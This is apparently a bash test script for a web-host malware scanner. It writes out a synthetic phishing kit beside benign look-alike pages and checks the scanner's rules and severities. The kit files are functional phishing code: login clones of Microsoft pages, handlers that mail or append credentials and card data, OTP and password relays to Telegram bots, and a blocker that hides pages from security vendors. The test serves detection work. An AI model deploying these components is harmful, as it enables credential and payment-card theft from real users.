#!/usr/bin/env bash
# Phishing kits by technique: a kit written here from the genre (not from any
# sample) — credential handlers sending to a drop box, a results file and a
# Telegram bot, an anti-bot blocker, a per-visitor landing copier, a static
# brand clone and a prefilled re-login page — beside the look-alikes of real
# sites (contact form, login with password_verify, newsletter, geo-IP
# statistics, SEO-bot blocker, password reset, payment gateway, an app's own
# login page). Neutral file names: nothing is found because of a name.
. "$(dirname "$0")/../lib.sh"
t=$(mktemp_dir)
kit=$t/home/acct/public_html/secure-login
ok_=$t/home/acct/public_html/site
mkdir -p "$kit/page" "$ok_"

# k1: login handler -> fixed mailbox, the visitor's IP and country, redirect to the brand
cat >"$kit/k1.php" <<'EOF'
<?php
$ip = getenv("REMOTE_ADDR");
$geo = json_decode(file_get_contents("http://ip-api.com/json/" . $ip));
$u = $_POST['loginfmt'];
$p = $_POST['passwd'];
$body = "Mail: $u\nPass: $p\nIP: $ip\nCountry: {$geo->country}\n";
$drop = "jdoe.logs" . "@" . "example.net";
mail($drop, "Office | $ip", $body, "From: box <nobody@localhost>");
header("Location: https://login.microsoftonline.com/");
EOF
# k2: card step -> appended to a text file
cat >"$kit/k2.php" <<'EOF'
<?php
session_start();
$line = sprintf("%s|%s|%s|%s|%s\n", $_POST['cardnumber'], $_POST['exp_month'], $_POST['cvv2'],
    $_SERVER['REMOTE_ADDR'], $_SERVER['HTTP_USER_AGENT']);
$h = fopen("../rz/" . date("Ymd") . ".txt", "a+");
fputs($h, $line);
fclose($h);
header("Location: otp.php");
EOF
# k3: OTP relay -> Telegram bot, the API host hidden in base64
cat >"$kit/k3.php" <<'EOF'
<?php
require "tg.php";
$t = array("OTP: " . $_POST['sms_code'], "IP: " . $_SERVER['REMOTE_ADDR']);
$c = curl_init(base64_decode("aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdA==") . $tok . "/sendMessage");
curl_setopt($c, CURLOPT_POSTFIELDS, array("chat_id" => $chat, "text" => implode("\n", $t)));
curl_exec($c);
echo "<script>location.replace('https://www.paypal.com/')</script>";
EOF
# k4: anti-bot blocker naming security vendors
cat >"$kit/k4.php" <<'EOF'
<?php
$host = strtolower(gethostbyaddr($_SERVER['REMOTE_ADDR']));
$deny = array("phishtank", "netcraft", "kaspersky", "bitdefender", "urlscan", "virustotal", "sophos");
foreach ($deny as $d) {
    if (strpos($host, $d) !== false) { header("HTTP/1.0 404 Not Found"); exit; }
}
EOF
# k5: per-visitor landing copy
cat >"$kit/k5.php" <<'EOF'
<?php
function cp($a, $b) {
    @mkdir($b);
    foreach (scandir($a) as $f) {
        if ($f == "." || $f == "..") continue;
        is_dir("$a/$f") ? cp("$a/$f", "$b/$f") : copy("$a/$f", "$b/$f");
    }
}
$dir = substr(md5(uniqid()), 0, 10);
cp("page", $dir);
header("Location: " . $dir . "/index.php");
EOF
# k6: static brand clone posting to the handler
cat >"$kit/page/k6.html" <<'EOF'
<!DOCTYPE html><html><head><title>Sign in to your Microsoft account</title></head><body>
<form method="post" action="../k1.php"><input type="email" name="loginfmt">
<input type="password" name="passwd"><button>Next</button></form></body></html>
EOF
# k7: session-expired page with the victim's address from the link
cat >"$kit/k7.php" <<'EOF'
<html><head><title>Session expired</title></head><body><p>Your mailbox session has expired.</p>
<form method="POST" action="k1.php">
<input name="loginfmt" value="<?php echo htmlspecialchars($_GET['email']); ?>">
<input type="password" name="passwd"><input type="submit" value="Sign in"></form></body></html>
EOF
# k8: the same clone under a generic title, claiming the brand in its body
cat >"$kit/page/k8.php" <<'EOF'
<html><head><title>Anmelden</title></head><body><h2>Anmelden</h2>
<p>Verwenden Sie Ihr Microsoft-Konto.</p>
<form method="post" action="../k1.php"><input name="user"><input type="password" name="pw">
<input type="submit" value="Weiter"></form><footer>&copy; 2023 Microsoft</footer></body></html>
EOF
# b8 (look-alike): a real application's own login page that mentions a
# brand for single sign-on, with its CSRF token
cat >"$ok_/b8.php" <<'EOF'
<html><head><title>Intranet login</title></head><body>
<form method="post" action="login.php"><input type="hidden" name="csrf_token" value="<?php echo htmlspecialchars($token); ?>">
<input name="user"><input type="password" name="pass"><input type="submit" value="Sign in"></form>
<p><a href="sso.php">Sign in with your Microsoft account instead</a></p>
<footer>&copy; 2024 Example Intranet</footer></body></html>
EOF

# the look-alikes of real sites
cat >"$ok_/b1.php" <<'EOF'
<?php
$email = filter_var($_POST['email'], FILTER_VALIDATE_EMAIL);
$body = "From: " . $_POST['name'] . " <$email>\n\n" . $_POST['message'] . "\n\nIP: " . $_SERVER['REMOTE_ADDR']
    . "\nBrowser: " . $_SERVER['HTTP_USER_AGENT'];
mail('office@example.com', 'Contact form', $body, 'Reply-To: ' . $email);
header('Location: https://www.example.com/thanks/');
EOF
cat >"$ok_/b2.php" <<'EOF'
<?php
session_start();
$st = $pdo->prepare('SELECT id, hash FROM users WHERE login = ?');
$st->execute(array($_POST['login']));
$row = $st->fetch();
if ($row && password_verify($_POST['password'], $row['hash'])) {
    session_regenerate_id(true);
    header('Location: /account/');
    exit;
}
file_put_contents(__DIR__ . '/logs/auth.log', date('c') . ' failed ' . $_POST['login'] . ' ' . $_SERVER['REMOTE_ADDR'] . "\n", FILE_APPEND);
EOF
cat >"$ok_/b3.php" <<'EOF'
<?php
$ip = $_SERVER['REMOTE_ADDR'];
$geo = json_decode(@file_get_contents('http://ip-api.com/json/' . $ip), true);
file_put_contents(__DIR__ . '/stats/visits.log', implode("\t", array(date('c'), $ip, $geo['country'],
    $_SERVER['HTTP_USER_AGENT'], $_SERVER['REQUEST_URI'])) . "\n", FILE_APPEND | LOCK_EX);
EOF
cat >"$ok_/b4.php" <<'EOF'
<?php
/* blocks aggressive SEO crawlers */
$ua = $_SERVER['HTTP_USER_AGENT'];
foreach (array('AhrefsBot', 'SemrushBot', 'MJ12bot', 'DotBot', 'PetalBot') as $b) {
    if (stripos($ua, $b) !== false) { header('HTTP/1.1 403 Forbidden'); exit; }
}
EOF
cat >"$ok_/b5.php" <<'EOF'
<?php
$token = bin2hex(random_bytes(32));
$user = User::byEmail($_POST['email']);
$user->setResetToken(hash('sha256', $token));
mail($user->email, 'Reset your password', "Reset your password: https://www.example.com/reset?t=$token\n"
    . "Requested from " . $_SERVER['REMOTE_ADDR']);
header('Location: /login?sent=1');
EOF
cat >"$ok_/b6.php" <<'EOF'
<?php
$ch = curl_init('https://api.payments.example/v1/charges');
curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('number' => $_POST['cardnumber'],
    'cvc' => $_POST['cvc'], 'exp' => $_POST['exp'], 'ip' => $_SERVER['REMOTE_ADDR'])));
$r = json_decode(curl_exec($ch), true);
mail('shop@example.com', 'Order paid', 'Order ' . $r['id'] . ' from ' . $_SERVER['REMOTE_ADDR']);
header('Location: https://shop.example.com/receipt');
EOF
cat >"$ok_/b7.php" <<'EOF'
<?php require 'lib/session.php'; ?>
<html><head><title>Webmail :: Welcome</title></head><body>
<form method="post" action="index.php"><input type="hidden" name="_token" value="<?php echo csrf_token(); ?>">
<input name="_user" value="<?php echo htmlspecialchars($_GET['_user'] ?? ''); ?>">
<input type="password" name="_pass"><button>Login</button></form></body></html>
EOF

# Third session: the HTML-only clone (k9: the form posts to another host;
# k10: a script reads the password and sends it to a Telegram bot), the
# visitor gate (k11: a list file and a crawler filter, fake 404; k12: the
# same with the kit's form) and a one-time directory (k13); their
# look-alikes: b9 an SSO page posting to the brand's own host, b10 a site's
# own page with "Sign in with Google" posting to its own absolute address,
# b11 a rate limiter reading a blocklist, b12 a GeoIP language redirect.
cat >"$kit/page/k9.html" <<'EOF'
<html><head><title>Outlook Web App</title></head><body>
<form method="POST" action="https://owa-auth.example.net/owa/auth.aspx">
<input type="email" name="username"><input type="password" name="password">
<button>Sign in</button></form><p>&copy; 2025 Microsoft</p></body></html>
EOF
cat >"$kit/page/k10.html" <<'EOF'
<html><head><title>Sign in</title></head><body>
<form id="f"><input id="u" type="email"><input id="pw" type="password"><button>Next</button></form>
<script>
document.getElementById('f').onsubmit = function (e) {
  e.preventDefault();
  var m = 'U: ' + document.getElementById('u').value + ' P: ' + document.getElementById('pw').value;
  fetch('https://api.telegram.org/bot123456:AAAtoken/sendMessage', {method: 'POST',
    headers: {'Content-Type': 'application/json'}, body: JSON.stringify({chat_id: '-100123', text: m})});
};
</script></body></html>
EOF
cat >"$kit/k11.php" <<'EOF'
<?php
$ip = $_SERVER['REMOTE_ADDR'];
$ua = $_SERVER['HTTP_USER_AGENT'];
if (in_array($ip, file('data/banned.txt', FILE_IGNORE_NEW_LINES)) || preg_match('/bot|crawl|spider|curl/i', $ua)) {
    header('HTTP/1.1 404 Not Found');
    exit('<h1>Not Found</h1>');
}
include 'page/k9.html';
EOF
{ cat "$kit/k11.php"; printf '?>\n<form method="post" action="k1.php"><input name="loginfmt"><input type="password" name="passwd"></form>\n'; } >"$kit/k12.php"
cat >"$kit/k13.php" <<'EOF'
<?php
$d = substr(md5(uniqid()), 0, 8);
mkdir($d);
$z = new ZipArchive();
$z->open('pack.zip');
$z->extractTo($d);
echo '<meta http-equiv="refresh" content="0; url=' . $d . '/">';
EOF
cat >"$ok_/b9.html" <<'EOF'
<html><head><title>Sign in to your account</title></head><body>
<form method="post" action="https://login.microsoftonline.com/common/login">
<input name="loginfmt"><input type="password" name="passwd"><button>Sign in</button></form>
<p>&copy; 2025 Microsoft</p></body></html>
EOF
cat >"$ok_/b10.html" <<'EOF'
<html><head><title>Log in | Acme Tools</title></head><body>
<a href="/auth/google">Sign in with Google</a><p>Use your Google account or your Acme password.</p>
<form method="post" action="https://www.acme-tools.example/login">
<input name="email"><input type="password" name="password"><button>Log in</button></form></body></html>
EOF
cat >"$ok_/b11.php" <<'EOF'
<?php
$ip = $_SERVER['REMOTE_ADDR'];
if (in_array($ip, file(__DIR__ . '/blocklist.txt', FILE_IGNORE_NEW_LINES), true)) {
    header('HTTP/1.1 429 Too Many Requests');
    exit;
}
if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) {
    header('Cache-Control: public, max-age=600');
}
EOF
cat >"$ok_/b12.php" <<'EOF'
<?php
$j = json_decode(@file_get_contents('http://ip-api.com/json/' . $_SERVER['REMOTE_ADDR']), true);
$map = array('DE' => '/de/', 'FR' => '/fr/');
if (!isset($_COOKIE['lang']) && isset($j['countryCode'], $map[$j['countryCode']])) {
    header('Location: ' . $map[$j['countryCode']]);
    exit;
}
if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) {
    return;
}
EOF

hs --format json --full --rules "$SRC/rules" --signatures "$SRC/signatures" scan "$t"
check "scan: exit 1, valid JSON" sh -c "[ $RC = 1 ] && python3 -c 'import json,sys;[json.loads(l) for l in open(sys.argv[1])]' '$OUT'"

python3 - "$OUT" "$kit" "$ok_" >"$t/results" <<'PY'
import json, sys
out, kit, site = sys.argv[1:4]
F = {}
for line in open(out):
    o = json.loads(line)
    if o["type"] == "finding":
        F[o["path"]] = o
rank = {"low": 1, "medium": 2, "high": 3, "critical": 4}
# file, a rule that must be among the finding's, the least severity
cases = [
    ("k1.php", "php.credential_exfil", "critical"),
    ("k2.php", "php.credential_exfil", "high"),
    ("k3.php", "php.credential_exfil", "high"),
    ("k4.php", "phishing.phishing_antibot_blocker", "high"),
    ("k5.php", "phishing.phishing_landing_copier", "medium"),
    ("page/k6.html", "phishing_pages.phishing_brand_title_login_clone", "medium"),
    ("k7.php", "phishing_pages.phishing_prefilled_victim_login", "medium"),
    ("page/k8.php", "phishing_pages.phishing_brand_claim_login_clone", "medium"),
    ("page/k9.html", "phishing_pages.phishing_html_form_posts_offsite", "high"),
    ("page/k10.html", "phishing_pages.phishing_html_password_to_messenger", "high"),
    ("k11.php", "phishing.phishing_visitor_gate", "medium"),
    ("k12.php", "phishing.phishing_visitor_gate_kit", "high"),
    ("k13.php", "phishing.phishing_onetime_directory", "medium"),
]
for rel, rule, sev in cases:
    o = F.get(kit + "/" + rel)
    name = "kit %s: %s, %s or worse" % (rel, rule, sev)
    if not o or rule not in o["rules"]:
        print("not ok\t%s\tgot %s" % (name, o and o["rules"]))
    elif rank[o["severity"]] < rank[sev]:
        print("not ok\t%s\tseverity %s" % (name, o["severity"]))
    else:
        print("ok\t%s" % name)
for rel in ("b1.php", "b2.php", "b3.php", "b4.php", "b5.php", "b6.php", "b7.php", "b8.php", "b9.html", "b10.html",
            "b11.php", "b12.php"):
    o = F.get(site + "/" + rel)
    name = "look-alike %s: no finding" % rel
    print(("not ok\t%s\t%s %s" % (name, o["severity"], o["rules"])) if o else "ok\t%s" % name)
PY
while IFS=$'\t' read -r status name detail; do
	if [ "$status" = ok ]; then ok "$name"; else not_ok "$name" "$detail"; fi
done <"$t/results"
exit $HS_FAILED
